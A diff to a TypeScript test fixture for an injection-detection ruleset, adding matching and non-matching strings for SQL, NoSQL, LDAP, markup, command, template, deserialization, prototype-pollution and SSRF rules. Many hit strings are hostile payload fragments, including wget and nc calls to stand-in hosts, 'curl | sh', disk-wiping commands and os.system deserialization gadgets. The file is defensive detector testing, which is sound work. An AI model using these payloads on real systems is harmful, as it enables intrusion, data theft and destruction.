@@ -12,14 +12,19 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   },
   101111: {
     hits: ["x' or true--", "x' and length('a')", "q' || 1 #"],
-    misses: ["the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
+    misses: ['3" or 4"?', "the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
   },
   101112: {
     hits: ["7' order by 3", "x' limit 1", "b') having sum(a"],
     misses: ["Ana's order by phone", "the 'main' union", "it's limited"],
   },
   101120: {
-    hits: ["1 union select 2", "x') UNION ALL SELECT name FROM staff", "9/**/union/**/select/**/null,1"],
+    hits: [
+      "1e0union select 1",
+      "1 union select 2",
+      "x') UNION ALL SELECT name FROM staff",
+      "9/**/union/**/select/**/null,1",
+    ],
     misses: ["The union select committee met", "union: select one", "the European Union selected 3"],
   },
   101121: {
@@ -27,7 +32,7 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
     misses: ["The union select committee met", "credit union selection"],
   },
   101130: {
-    hits: ["' or 7=7--", "x or 'ab'='ab'", "1 and 2 = 2", "admin' || 5=5"],
+    hits: ["case when 1=1 then", "' or 7=7--", "x or 'ab'='ab'", "1 and 2 = 2", "admin' || 5=5"],
     misses: ["one and two", "5 or 6 items = 7", "true or false?"],
   },
   101131: { hits: ["1 and 3=4", "x or 'a'='b"], misses: ["sizes 3 and 4 are sold out", "5 > 3 && 2 < 4"] },
@@ -47,6 +52,7 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   101151: {
     hits: ["drop table invoices", "delete from users where 1", "x' update staff set pay = 9", "exec sp_who"],
     misses: [
+      "Grant all permissions to admins",
       "drop table reservations by Friday",
       "delete from my list",
       "update the settings",
@@ -112,7 +118,10 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
     hits: ["a'='a", "'-'", "1' like '%", "x'||'y"],
     misses: ["6'-2\"", "'90s music", "Ana's and Bo's", "5' tall"],
   },
-  101251: { hits: ['x"") or (""a""=""a', "q'') or ('' = ''"], misses: ['say ""hi""', "it''s"] },
+  101251: {
+    hits: ['x"") or (""a""=""a', "q'') or ('' = ''"],
+    misses: ["'''Bold''' and ''italic'' text", 'say ""hi""', "it''s"],
+  },
   101260: {
     hits: ["cus_358b05c80a469d' or", "00000000-1111-2222-3333-444444444444'", '123456789"'],
     misses: ["cus_358b05c80a469d", "don't", "5'10"],
@@ -131,6 +140,10 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
   },
   106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "$comment", "$schema", "$id"] },
   106120: { hits: ["user[$ne]=1", '{"$gt":""}', "1, $where: '1'"], misses: ["$gt", "costs $in total", "{$name}"] },
+  106121: {
+    hits: ['{"$set":{"role":"x"}}', '[{"$unionWith":"t"}]', '{"id":{"$type":2}}', "filter[where][pin][like]=%"],
+    misses: ["{$size: 10px}", "costs {$all}", '{"type":{"set":1}}', "where to like"],
+  },
   106130: {
     hits: ["';return this.a=='b", "'||'a'=='a", "|| 1==1//", "x';while(1)"],
     misses: ["this.name", "return this", "'a' || 'b'"],
@@ -143,9 +156,24 @@ const QUERIES: Readonly<Record<string, RuleCases>> = {
     hits: ["' with 1 as a", "LOAD CSV FROM 'http://e'", "call apoc.load.json"],
     misses: ["'with 2", "call the office", "load a csv"],
   },
+  106151: {
+    hits: ["/_users/_all_docs", "/_cat/indices", "{!func}x", "x OR *:*", "pin:x OR secret:[* TO *]", '_query_:"x"'],
+    misses: ["*:*", "all_docs", "{!important}", "age:[1 TO 5]", "_config.yml", "/_next/static/x.js"],
+  },
+  106152: {
+    hits: ["x' ALLOW FILTERING", "drop keyspace shop;", "FOR u IN staff RETURN u", "g.V().drop()", "x').has('y')"],
+    misses: ["allow filtering by date", "for us in return", "for x in items return", "$('a').has('b')", "1. V (five)"],
+  },
+  106160: {
+    hits: ["{__schema{types{name}}}", '__type(name:"User")', "x) { id } staff { pin } #"],
+    misses: ["query { user(id: 1) { name } }", "the __schema field", "if (a) { b } else { c }"],
+  },
   113110: { hits: ["*)(uid=*", "x)(|(a=b", "a)(cn=b"], misses: ["(a)(b)", "50*2=100", "f(x)(y)"] },
   113120: { hits: ["(objectClass=*)", "(&(uid=a)(mail=b))", "(sn=admin)"], misses: ["(a=b)", "uid 5", "(mail me)"] },
-  113130: { hits: ["*)(&", "admin)(&)", "*))%00"], misses: ["********", "*bold*", "(x)", "!!!"] },
+  113130: {
+    hits: ["pass = q))", "a)(b)(c=*", "*)(&", "admin)(&)", "*))%00"],
+    misses: ["Thanks :))", "(char *)(buf)", "f(x)(y)", "********", "*bold*", "(x)", "!!!"],
+  },
   114110: {
     hits: ["' or count(//x)=1", "'] | //*[", "x' or name(/*)='a"],
     misses: ["' or '", "the 'name' (full)", "a // b"],
@@ -243,13 +271,22 @@ const MARKUP: Readonly<Record<string, RuleCases>> = {
   102171: { hits: ["<img/src/=x", "<x onx>", "<p srcdoc=x>", "<<img src=x>"], misses: ["<img src='a.png'>", "1 << 2"] },
   102172: { hits: ["<![CDATA[x", '<?xml version="1.0"?>', "<?xml-stylesheet x?>"], misses: ["xml", "<xmlns>"] },
   102173: { hits: ["<body background=x>", "<img src=x>"], misses: ["<body>", '<img src="https://x.example/a.png">'] },
+  102174: {
+    hits: ["<img name=cookie>", '<form id="createElement">', "<a id=__proto__>"],
+    misses: ['<img alt="cookie">', '<a name="attributes">', '<input name="email">', "<form id=login>"],
+  },
   102180: {
     hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "<b v-html='x'>", "<b x-init=y>"],
     misses: ["{{name}}", "ng-book", "v-neck shirt"],
   },
   102190: { hits: ["+ADw-script+AD4-", "\uff1cscript", "&#x000003c"], misses: ["a+b", "&#x3c", "1+1"] },
   110110: {
-    hits: ['<!DOCTYPE a [<!ENTITY b "x">]>', '<!DOCTYPE a SYSTEM "http://e">', "<!DOCTYPE html [x"],
+    hits: [
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://e.example/a.dtd">',
+      '<!DOCTYPE a [<!ENTITY b "x">]>',
+      '<!DOCTYPE a SYSTEM "http://e">',
+      "<!DOCTYPE html [x",
+    ],
     misses: ["<!DOCTYPE html>", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x">'],
   },
   110111: {
@@ -260,7 +297,10 @@ const MARKUP: Readonly<Record<string, RuleCases>> = {
     hits: ['SYSTEM "file:///x"', "SYSTEM 'http://e/x.dtd'", "%dtd; %send;"],
     misses: ["the system 'file'", "50%; done"],
   },
-  110121: { hits: ["&xxe;", "<a>&exfil;</a>"], misses: ["&amp;", "<a>&lt;</a>", "&nbsp;"] },
+  110121: {
+    hits: ["%remote;", "&xxe;", "<a>&exfil;</a>"],
+    misses: ["%name;", "<td>&nbsp;</td>", "&amp;", "<a>&lt;</a>", "&nbsp;"],
+  },
   110130: {
     hits: ["<xi:include href='x'/>", "<a xsi:schemaLocation='x http://e'>", 'encoding="UTF-7"'],
     misses: ["include", 'encoding="UTF-8"'],
@@ -277,7 +317,7 @@ const MARKUP: Readonly<Record<string, RuleCases>> = {
 const CODE: Readonly<Record<string, RuleCases>> = {
   103110: {
     hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://e)"],
-    misses: ["R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
+    misses: ["Python; Perl; Ruby", "Linux; Bash", "R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
   },
   103111: { hits: ["x; cat /etc/x", "x|id", "1 & sleep 5"], misses: ["cats; dogs", "ping | pong", "a; b | c"] },
   103112: {
@@ -285,8 +325,8 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     misses: ["one | more options", "colors; type of paper", "date; time"],
   },
   103113: {
-    hits: ["{cat,/etc/x}", ";X=$'id';$X", "a${IFS}b", "w'h'oami"],
-    misses: ["{id, name}", "x='1'; y='2'", "{cat, dog}"],
+    hits: ["c^a^l^c", "ho$@stname", "{cat,/etc/x}", ";X=$'id';$X", "a${IFS}b", "w'h'oami"],
+    misses: ["x^y^z", "US$@5", "{id, name}", "x='1'; y='2'", "{cat, dog}"],
   },
   103114: {
     hits: ["net user eve Secret1 /add", 'reg add "HKLM\\Software"', "ipconfig /all", "certutil -urlcache x"],
@@ -298,11 +338,15 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   },
   103120: {
     hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "cat /etc/hosts", "curl http://e | sh"],
-    misses: ["bash is a shell", "a cat and a dog", "chmod explained"],
+    misses: ["#!/bin/bash", "bash is a shell", "a cat and a dog", "chmod explained"],
   },
   103121: {
     hits: ["wget http://evil.example/x", "uname -a", "ls -la /"],
     misses: ["list", "sleep 5 hours", "ping me"],
+  },
+  103122: {
+    hits: ["mkfs.ext4 /dev/sdb", "echo x > /dev/sda", "docker run -v /:/host x", "find / -exec id", "iptables -F"],
+    misses: ["docker run -p 80:80 nginx", "find a file", "kill -9 is the last resort", "history of c", "osascript"],
   },
   103130: {
     hits: ["x`sleep 9`", "$(cat </etc/hosts)", "`/usr/bin/id`"],
@@ -315,14 +359,21 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   },
   103150: {
     hits: ["-oProxyCommand=x", "--upload-pack=x", "--checkpoint-action=exec"],
-    misses: ["--output", "-o file", "--help"],
+    misses: ["core.editor=vim", "NODE_OPTIONS=--max-old-space-size=4096", "--output", "-o file", "--help"],
   },
   103160: {
     hits: ["x\r\nFLUSHALL\r\n", "a%0d%0aRCPT TO:<x@y.example>", "\nslaveof e 6379\n"],
     misses: ["line one\nline two", "config set"],
   },
   103170: { hits: ["\u001b[2Jcurl x", "\\033[2wget x", "\u001b]0;x"], misses: ["\u001b[31mred\u001b[0m", "[2A"] },
-  107110: { hits: ["{{7*7}}", "${7*7}", "#{7*7}", "{{'a'*7}}"], misses: ["{{name}}", "${total}", "7*7"] },
+  103180: {
+    hits: ["CreateObject('WScript.Shell')", 'new ActiveXObject("x")', "GetObject('winmgmts:')"],
+    misses: ["create an object", "createObject('cart')", "ActiveX objects"],
+  },
+  107110: {
+    hits: ["{{~3*4}}", "[=3*4]", "{{7*7}}", "${7*7}", "#{7*7}", "{{'a'*7}}"],
+    misses: ["{{name}}", "${total}", "7*7"],
+  },
   107120: {
     hits: ["x.__class__.__mro__", "a|attr('__globals__')", "['__init__']"],
     misses: ["__init__.py", "a class"],
@@ -353,10 +404,13 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   },
   107150: {
     hits: ['<#assign x="y">', '${"x"?new()}', "#set($x='y')", "$x.class.inspect"],
-    misses: ["#set", "$5.00", "<#1>"],
+    misses: ["<@U12345> has joined", "<@!80351110224678912> hi", "#set", "$5.00", "<#1>"],
   },
-  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["50 <% of", "5 % > 3"] },
-  107161: { hits: ["{php}x{/php}", "{system('x')}", "{$smarty.version}", "{!! x !!}"], misses: ["{name}", "{if}"] },
+  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["<%body%>", "50 <% of", "5 % > 3"] },
+  107161: {
+    hits: ["{php}x{/php}", "{system('x')}", "{$smarty.version}", "{!! q('x') !!}"],
+    misses: ["{!! name !!}", "{name}", "{if}"],
+  },
   107162: {
     hits: ["{{#with x}}", "{{= x}}", "{{range.constructor('x')}}", "#{root.process}"],
     misses: ["{{name}}", "{{#if x}}"],
@@ -378,10 +432,15 @@ const CODE: Readonly<Record<string, RuleCases>> = {
   111110: { hits: ["rO0ABXNyAA==", "AAEAAAD/////AQ", "gASVKAAAAA=="], misses: ["Rob", "AAAA", "gasoline"] },
   111111: { hits: ['O:4:"User":1:{s:1:"a";i:1;}', 'a:1:{i:0;s:1:"x";}'], misses: ["O: 4", "ratio a:1:2"] },
   111112: {
-    hits: ["!!python/object/apply:os.system", "!ruby/object:Gem::Requirement", "!!javax.script.X"],
-    misses: ["!!important", "!ruby"],
+    hits: [
+      "!com.example.Foo {}",
+      "!!python/object/apply:os.system",
+      "!ruby/object:Gem::Requirement",
+      "!!javax.script.X",
+    ],
+    misses: ["!important", "!!important", "!ruby"],
   },
-  111113: { hits: ["cos\nsystem\n(S'id'\ntR.", "(dp0\n"], misses: ["cost\nsystem", "(dp)"] },
+  111113: { hits: ["(S'x'\nios\nsystem\n.", "cos\nsystem\n(S'id'\ntR.", "(dp0\n"], misses: ["cost\nsystem", "(dp)"] },
   111114: { hits: ["_$$ND_FUNC$$_function", '{"__js_function":"x"}'], misses: ["a function", "$$"] },
   111115: {
     hits: ["ysoserial.jar", "org.apache.commons.collections.Transformer", "com.sun.rowset.JdbcRowSetImpl"],
@@ -391,9 +450,13 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     hits: ["<java><object class='x'>", "<sorted-set>", "<void method='x'>"],
     misses: ["<javanese>", "<object>"],
   },
+  111117: {
+    hits: ["jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'x'", "jdbc:mysql://x/a?autoDeserialize=true", "?socketFactory=a.B"],
+    misses: ["jdbc:postgresql://db.example.com/a?ssl=true", "jdbc:h2:mem:a", "socket factory = x"],
+  },
   111120: {
     hits: ['{"@type":"com.sun.rowset.X"}', '{"$type":"System.X, Y"}', "{'py/object':'os.system'}"],
-    misses: ['{"type":"user"}', '{"@id":"x"}', "@type: user"],
+    misses: ['{"@type":"Product","name":"Chair"}', '{"type":"user"}', '{"@id":"x"}', "@type: user"],
   },
   111130: { hits: ["@class", "$type"], misses: ["class", "type", "@id"] },
   111131: { hits: ["json_class", "py/object"], misses: ["class", "py"] },
@@ -406,7 +469,13 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     misses: ["proto", "constructor", "prototype"],
   },
   112120: {
-    hits: ["__proto__[x]=1", "constructor.prototype.x=1", 'x["__proto__"]="y"'],
+    hits: [
+      "Object.assign(Object.prototype,{a:1})",
+      "/__proto__/admin",
+      "__proto__[x]=1",
+      "constructor.prototype.x=1",
+      'x["__proto__"]="y"',
+    ],
     misses: ["the prototype chain", "constructor (builder)", "#sec-object.prototype.__proto__"],
   },
   112130: {
@@ -422,6 +491,17 @@ const CODE: Readonly<Record<string, RuleCases>> = {
     misses: ["the system (old)", "eval(x)"],
   },
   115121: { hits: ["system('id');", "print md5(1)", "die(md5(3))"], misses: ["print (paper)", "the system ('x')"] },
+  115122: {
+    hits: [
+      "array_filter(['x'],'system')",
+      "('system')('id')",
+      "strrev('metsys')('x')",
+      "\"\\x73ystem\"('x')",
+      "chr(105).chr(100)",
+      "$f='exec';",
+    ],
+    misses: ["the (system) (x)", "strrev('abc')", "chr(65)", "$name = 'system';x", "call (exec) now"],
+  },
   115130: { hits: ["$_POST['a']", "${@print(1)}", "$GLOBALS['x']"], misses: ["$post", "$_"] },
   117110: {
     hits: ["require('child_process')", "process.mainModule.x", "execSync('id')", "global.process.exit()"],
@@ -485,7 +565,7 @@ const PLACES: Readonly<Record<string, RuleCases>> = {
   },
   105112: {
     hits: ["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://[::ffff:7f00:1]/"],
-    misses: ["http://8.8.8.8/", "https://0604013.mock.example/"],
+    misses: ["https://[2606:4700:4700::1111]/dns-query", "http://8.8.8.8/", "https://0604013.mock.example/"],
   },
   105113: {
     hits: ["http://\u2460\u2461\u2466.0.0.1", "http://127\u30020.0.1"],
@@ -504,13 +584,22 @@ const PLACES: Readonly<Record<string, RuleCases>> = {
     hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
     misses: ["mailto:a@b.example", "tcp: a protocol", "postgres://db.example/x"],
   },
+  105121: {
+    hits: ["redis://127.0.0.1:6379/", "mysql://root@10.0.0.5/", "mongodb://localhost/x"],
+    misses: ["redis://cache.example.com", "ssh://git@localhost/a.git", "localhost redis"],
+  },
   105130: {
     hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/"],
     misses: ["the latest metadata", "169.254 is a prefix"],
   },
   105140: {
     hits: ["https://localhost:22/", "http://x.example/?u=http://localhost", "http://localhost:6379"],
-    misses: ["http://localhost:3000/users", "localhost", "run it on localhost"],
+    misses: [
+      "https://id.example/login?redirect_uri=http%3A%2F%2Flocalhost%2Fapp",
+      "http://localhost:3000/users",
+      "localhost",
+      "run it on localhost",
+    ],
   },
   105141: { hits: ["http://localhost", "https://localhost/"], misses: ["http://localhost:3000", "localhost"] },
   109110: {
@@ -518,7 +607,7 @@ const PLACES: Readonly<Record<string, RuleCases>> = {
     misses: ["Dear%20Ana%0D%0AHello", "10%0 off"],
   },
   109111: {
-    hits: ["x\r\nSet-Cookie: a=b", "a\nHTTP/1.1 200", "a\u560aLocation: x"],
+    hits: ["a\r\nContent-Security-Policy: x", "x\r\nSet-Cookie: a=b", "a\nHTTP/1.1 200", "a\u560aLocation: x"],
     misses: ["line one\nline two", "Hi\r\n\r\nTopic: x", "cookie: yes"],
   },
   109112: { hits: ["%0D%0A<b>", "%0a%3cx", "%0d%0aX-Test:y"], misses: ["%0D%0ADear", "a%20b"] },
